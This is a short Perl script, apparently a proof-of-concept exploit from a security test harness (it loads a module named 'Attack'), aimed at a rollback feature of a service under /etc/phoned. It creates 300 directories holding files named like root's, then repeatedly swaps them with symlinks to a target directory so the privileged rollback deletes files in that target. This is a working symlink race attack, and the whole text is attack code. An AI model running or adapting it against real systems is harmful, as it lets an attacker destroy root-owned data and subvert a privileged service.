# Makes directories that came after the rollback data was saved, with files that have the names of root's. Exchanges each with a link to the
# directory of root while the rollback removes what is new.
use strict;
use warnings;
use Attack;

my ($target, @names) = @ARGV;
ready();
wait_for { upgraded() };
my @pairs = map { ["/etc/phoned/new-$_", "/etc/phoned/link-$_"] } 1 .. 300;
for my $pair (@pairs) {
    directory($pair->[0]);
    write_file("$pair->[0]/$_", '') for @names;
    symlink $target, $pair->[1] or die "$pair->[1]: $!\n";
}
tried();
until (over()) {
    exchange(@$_) for @pairs;
}
